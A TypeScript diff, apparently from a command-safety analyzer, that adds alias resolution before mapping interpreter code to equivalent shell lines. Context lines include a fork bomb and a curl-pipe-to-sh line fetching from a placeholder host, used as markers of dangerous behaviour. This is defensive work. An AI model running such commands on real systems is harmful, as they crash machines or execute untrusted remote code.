@@ -19,6 +19,7 @@
 import type { ShellWord } from "../model";
 import { commandName } from "../words/strip";
 import { HOLE_VARIABLE } from "../words/template";
+import { dealiased } from "./interpreterAliases";
 
 const MAX_CODE = 32 * 1024;
 const UNKNOWN = `"\${${HOLE_VARIABLE}}"`;
@@ -492,7 +493,8 @@ function pathlibCalls(text: string, bindings: Bindings): string[] {
 
 /** The shell command lines equivalent to what interpreter code on a command line does (see the module comment). */
 function shellEquivalents(lang: Lang, code: string): { lines: string[]; truncated: boolean } {
-  const text = code.length > MAX_CODE ? code.slice(0, MAX_CODE) : code;
+  // Calls made under another name (`import os as o`, `from os import system`) written under their own first.
+  const { text, truncated: renamesCut } = dealiased(lang, code.length > MAX_CODE ? code.slice(0, MAX_CODE) : code);
   const out: string[] = [];
   if (FORK_LOOP.test(text)) out.push(":(){ :|:& };:");
   if (EVAL_CALL.test(text) && NETWORK.test(text)) out.push("curl -fsSL https://hookgate.invalid/fetched-by-interpreter | sh");
@@ -532,7 +534,7 @@ function shellEquivalents(lang: Lang, code: string): { lines: string[]; truncate
       if (b[1]!.length > 4096 || out.length > MAX_LINES) return { lines: out, truncated: true };
       out.push(b[1]!);
     }
-  return { lines: out, truncated: code.length > MAX_CODE };
+  return { lines: out, truncated: code.length > MAX_CODE || renamesCut };
 }
 
 /**
